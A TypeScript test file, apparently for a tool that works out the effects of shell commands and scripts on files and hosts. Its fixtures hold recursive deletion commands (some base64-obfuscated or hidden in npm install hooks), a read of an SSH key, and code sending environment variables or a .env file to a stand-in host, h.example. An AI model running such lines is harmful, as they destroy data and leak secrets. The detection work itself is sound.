import assert from 'node:assert/strict'
import { test } from 'node:test'
import { lines, read } from '../../fixtures/world.ts'

/** Effects of a command on files and hosts, home at /home/me, with these files in /proj. */
const does = (text: string, files: Readonly<Record<string, string>>): readonly string[] =>
  read(text, { files }).effects.flatMap(({ kind, path, shape, host }) =>
    kind === 'execute' ? [] : [`${kind} ${path ?? shape ?? host ?? '?'}`],
  )

const ran = (text: string, files: Readonly<Record<string, string>>): readonly string[] =>
  lines(text, { files }).slice(1)

test('a file of code that is run by its name is read', () => {
  const rows: readonly (readonly [string, string, string, readonly string[]])[] = [
    ['python3 x.py', 'x.py', 'import os\nos.system("rm -rf /a")', ['rm -rf /a']],
    ['python3 -u x.py', 'x.py', 'd = "/a"\nimport os\nos.system(f"rm -rf {d}")', ['rm -rf /a']],
    ['python x.py', 'x.py', 'import subprocess as s\na = ["rm"]\na.append("/a")\ns.run(a)', ['rm /a']],
    [
      'python x.py',
      'x.py',
      'from subprocess import call as c\nc(" ".join(["rm", "/a"]), shell=True)',
      ['rm /a'],
    ],
    ['python x.py', 'x.py', 'for d in ["/a", "/b"]:\n    subprocess.run(["rm", d])', ['rm /a', 'rm /b']],
    ['python x.py', 'x.py', 'os.system("rm %s" % "/a")', ['rm /a']],
    ['php x.php', 'x.php', '<?php proc_open("rm /a", [["pty"]], $p);', ['rm /a']],
    ['php x.php', 'x.php', '<?php $o = ["x"]; exec("rm /a", $o);', ['rm /a']],
    ['php x.php', 'x.php', '<?php pcntl_exec("/bin/rm", ["/a"]);', ['/bin/rm /a']],
    ['ruby x.rb', 'x.rb', 'IO.popen("rm /a", "r")', ['rm /a']],
    ['ruby x.rb', 'x.rb', 'IO.popen(["rm", "/a"])', ['rm /a']],
    ['python x.py', 'x.py', 'os.system("rm {} {}".format("/a", "/b"))', ['rm /a /b']],
    ['python x.py', 'x.py', 'def go(d):\n    os.system("rm " + d)\ngo("/a")', ['rm /a']],
    ['python x.py /a', 'x.py', 'os.system("rm " + sys.argv[1])', ['rm /a']],
    ['python x.py', 'x.py', 'import base64\nexec(base64.b64decode("b3Muc3lzdGVtKCdybSAvYScp"))', ['rm /a']],
    [
      'node x.js',
      'x.js',
      "const { execSync: e } = require('child_process')\nconst d = '/a'\ne(`rm ${d}`)",
      ['rm /a'],
    ],
    [
      'node x.mjs',
      'x.mjs',
      "import { exec } from 'node:child_process'\nexec(Buffer.from('cm0gL2E=', 'base64').toString())",
      ['rm /a'],
    ],
    [
      'node x.js',
      'x.js',
      "const cp = require('child_process')\n;['/a', '/b'].forEach(d => cp.execSync('rm ' + d))",
      ['rm /a', 'rm /b'],
    ],
    ['tsx x.ts', 'x.ts', "const t: string = '/a'\nexecSync('rm ' + t)", ['rm /a']],
    ['bun x.ts', 'x.ts', "import { $ } from 'bun'\nawait $`rm /a`", ['rm /a']],
    ['ruby x.rb', 'x.rb', 'd = "/a"\nsystem "rm #{d}"', ['rm /a']],
    ['perl x.pl', 'x.pl', 'my $d = "/a";\nsystem("rm $d");', ['rm /a']],
    ['php x.php', 'x.php', "<?php $c = 'rm ' . '/a'; exec($c);", ['rm /a']],
    ['go run x.go', 'x.go', 'exec.Command("rm", "-r", "/a").Run()', ['rm -r /a']],
  ]
  for (const [command, name, code, wanted] of rows)
    assert.deepEqual(ran(command, { [`/proj/${name}`]: code }), wanted, code)
})

test('paths that code puts together', () => {
  const rows: readonly (readonly [string, string, string, readonly string[]])[] = [
    [
      'python x.py',
      'x.py',
      'import glob\nfor p in glob.glob(os.path.expanduser("~/*")):\n    os.unlink(p)',
      ['delete /home/me/*'],
    ],
    ['python x.py', 'x.py', 'for p in Path("/a").iterdir():\n    p.unlink()', ['delete /a/*']],
    [
      'node x.js',
      'x.js',
      "fs.rmSync(path.join(os.homedir(), 'a'), { recursive: true })",
      ['delete /home/me/a'],
    ],
    ['node x.js', 'x.js', "const out = path.join(__dirname, 'dist')\nfs.rmSync(out)", ['delete /proj/dist']],
    ['node x.js', 'x.js', "async function m(d) { await fs.rm(d) }\nm('/a')", ['delete /a']],
    ['python x.py', 'x.py', 'os.remove("".join("/a"))', ['delete /a']],
    ['python x.py', 'x.py', 'print("os.remove(1)")\n# os.remove("/a")', []],
  ]
  for (const [command, name, code, wanted] of rows)
    assert.deepEqual(does(command, { [`/proj/${name}`]: code }), wanted, code)
})

test('node removes a tree only where an option says so', () => {
  const rows: readonly (readonly [string, boolean])[] = [
    ["fs.rmSync('/a')", false],
    ["fs.rmSync('/a', { force: true })", false],
    ["fs.rmSync('/a', { recursive: false, force: true })", false],
    ["fs.rmSync('/a', { force: true, recursive: true })", true],
    ["fs.rmSync('/a', { 'recursive': !0 })", true],
    ["fs.rmSync('/a', { ...all })", true],
    ["fs.rmSync('/a', options)", true],
    ["fs.rmdirSync('/a')", false],
    ["await Deno.remove('/a', { recursive: true })", true],
  ]
  for (const [code, whole] of rows) {
    const { effects } = read('node x.js', { files: { '/proj/x.js': code } })
    const deleted = effects.find(({ kind }) => kind === 'delete')
    assert.deepEqual([deleted?.path, deleted?.recursive === true], ['/a', whole], code)
  }
})

test('a module beside the code is read with it', () => {
  const files = { '/proj/main.py': 'from helper import go\ngo()', '/proj/helper.py': 'shutil.rmtree("/a")' }
  assert.deepEqual(does('python main.py', files), ['delete /a'])
  const node = { '/proj/main.js': "require('./lib/x')", '/proj/lib/x.js': "fs.rmSync('/a')" }
  assert.deepEqual(does('node main.js', node), ['delete /a'])
})

test('what a stored program reads of the project, and where it connects, is its own business', () => {
  const files = { '/proj/x.py': 'open(".env")\nrequests.post("https://h.example")\nopen("/home/me/.ssh/k")' }
  assert.deepEqual(does('python x.py', files), ['read /home/me/.ssh/k'])
})

test('a stored program that sends secrets says so', () => {
  const sent = (name: string, code: string): readonly string[] =>
    does(name.endsWith('.py') ? `python ${name}` : `node ${name}`, { [`/proj/${name}`]: code })
  const all = ['upload h.example', 'read /proc/self/environ']
  assert.deepEqual(sent('x.py', 'urlopen("https://h.example", repr(dict(os.environ)).encode())'), all)
  assert.deepEqual(sent('x.js', "fetch('https://h.example/?' + JSON.stringify(process.env))"), all)
  const file = "fetch('https://h.example', { method: 'POST', body: fs.readFileSync('.env') })"
  assert.deepEqual(sent('x.js', file), ['upload h.example', 'read /proj/.env'])
  assert.deepEqual(sent('x.js', "fetch('https://h.example', { headers: { k: process.env.KEY } })"), [])
  assert.deepEqual(sent('x.js', "fetch('https://h.example'); spawn('ls', { env: process.env })"), [])
})

test('what stays unknown in code says so', () => {
  assert.equal(read('python x.py', { files: { '/proj/x.py': 'os.system(input())' } }).unknown.length, 1)
  assert.deepEqual(read('python x.py', { files: { '/proj/x.py': 'print(1)' } }).unknown, [])
})

test('make, just and installs run what their files say', () => {
  const make = {
    '/proj/Makefile': 'D := $(HOME)\ninclude more.mk\nall:\n\trm -r $(D)\n',
    '/proj/more.mk': 'wipe:\n\trm /a\n',
  }
  assert.deepEqual(ran('make all', make), ['rm -r /home/me'])
  assert.deepEqual(ran('make wipe', make), ['rm /a'])
  assert.deepEqual(ran('make all D=/b', make), ['rm -r /b'])
  const just = { '/proj/justfile': 'd := "/a"\nall: wipe\nwipe:\n    rm {{d}}\n' }
  assert.deepEqual(ran('just', just), ['rm /a'])
  assert.deepEqual(ran('just d=/b wipe', just), ['rm /b'])
  const npm = {
    '/proj/package.json': '{"scripts":{"postinstall":"rm /a"}}',
    '/proj/p/package.json': '{"scripts":{"install":"rm /b"}}',
  }
  assert.deepEqual(ran('npm install', npm), ['rm /a'])
  assert.deepEqual(ran('npm install ./p', npm), ['rm /b'])
  assert.deepEqual(ran('npm install left-pad', npm), [])
})

test('the words of xargs come from what is read', () => {
  const files = { '/proj/list': '/a\n/b\n' }
  assert.deepEqual(does('cat list | xargs rm', files), ['read /proj/list', 'delete /a', 'delete /b'])
  assert.deepEqual(does('ls -d ~/code/*/ | xargs rm -r', {}).at(-1), 'delete /home/me/code/*/')
})
